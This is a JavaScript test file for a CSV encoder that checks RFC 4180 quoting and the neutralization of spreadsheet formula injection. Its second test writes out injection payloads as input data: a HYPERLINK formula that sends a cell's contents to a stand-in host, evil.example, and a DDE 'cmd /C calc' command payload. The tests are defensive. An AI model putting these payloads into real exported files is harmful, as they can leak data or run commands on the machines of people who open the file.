import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csvField, csvLine } from '../../src/pipeline/csv-encoder.js';

test('RFC 4180 fields: quoted only when needed, quotes doubled, CRLF records', () => {
  assert.equal(csvField('plain'), 'plain');
  assert.equal(csvField('a,b'), '"a,b"');
  assert.equal(csvField('say "hi"'), '"say ""hi"""');
  assert.equal(csvField('two\nlines'), '"two\nlines"');
  assert.equal(csvField(null), '');
  assert.equal(csvField(''), '');
  assert.equal(csvField(-12.5), '-12.5');
  assert.equal(csvLine(['a', 1, null, true]), 'a,1,,true\r\n');
});

test('csv-injection-payload-in-a-source-value-is-neutralized', () => {
  assert.equal(
    csvField('=HYPERLINK("http://evil.example/?"&A1,"click")'),
    `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
  );
  assert.equal(csvField('=1+2'), "'=1+2");
  assert.equal(csvField('@SUM(A1:A9)'), "'@SUM(A1:A9)");
  assert.equal(csvField('+cmd|" /C calc"!A0'), `"'+cmd|"" /C calc""!A0"`);
  assert.equal(csvField('-2+3'), "'-2+3");
  assert.equal(csvField('\t=1'), "'\t=1");
  assert.equal(csvField('\r=1'), `"'\r=1"`);
  // Plain signed numbers written as text stay numbers.
  assert.equal(csvField('-12.5'), '-12.5');
  assert.equal(csvField('+44'), '+44');
  assert.equal(csvField('-1e5'), '-1e5');
  // Only the start matters.
  assert.equal(csvField('a=b'), 'a=b');
});
